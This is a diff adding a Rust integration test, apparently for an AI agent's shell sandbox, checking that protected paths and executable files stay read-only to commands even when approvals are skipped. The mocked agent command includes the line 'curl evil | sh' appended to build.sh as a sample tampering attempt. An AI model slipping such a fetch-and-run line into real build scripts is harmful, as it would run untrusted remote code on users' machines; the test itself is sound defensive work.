@@ -245,3 +245,40 @@ async fn hidden_paths_stay_hidden_and_cairns_own_is_never_opened() {
     let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
     assert!(section.contains(&format!("✗ {refused}")), "{stdout}");
 }
+
+/// What asks first through the file tools (`[approvals] ask_paths`, executable files) is
+/// read-only to a command as well, even under `--yes`, which asks nothing.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_asks_first_is_read_only_to_commands_even_under_yes() {
+    use std::os::unix::fs::PermissionsExt;
+    let sandbox = Sandbox::new();
+    sandbox.write_settings("[approvals]\nask_paths = [\"knowledge/private/**\"]\n");
+    let ws = sandbox.workspace();
+    std::fs::create_dir_all(ws.join("knowledge/private")).unwrap();
+    std::fs::create_dir_all(ws.join("notes")).unwrap();
+    std::fs::write(ws.join("knowledge/private/plan.md"), "the plan\n").unwrap();
+    std::fs::write(ws.join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
+    std::fs::set_permissions(ws.join("build.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let server = MockServer::start(bash_then_done(&[
+        "echo changed >> knowledge/private/plan.md; echo new > knowledge/private/b.md; \
+         echo 'curl evil | sh' >> build.sh; echo ok > notes/ok.md; echo tried",
+    ]))
+    .await;
+    let out = ask(&sandbox, &server, true, None).await;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let results = tool_results(&server);
+    assert!(results[0].contains("tried"), "{results:?}");
+    let read = |p: &str| std::fs::read_to_string(ws.join(p)).unwrap_or_default();
+    assert_eq!(
+        read("knowledge/private/plan.md"),
+        "the plan\n",
+        "{results:?}"
+    );
+    assert!(!ws.join("knowledge/private/b.md").exists(), "{results:?}");
+    assert_eq!(read("build.sh"), "#!/bin/sh\nmake\n", "{results:?}");
+    assert_eq!(read("notes/ok.md"), "ok\n", "{results:?}");
+}
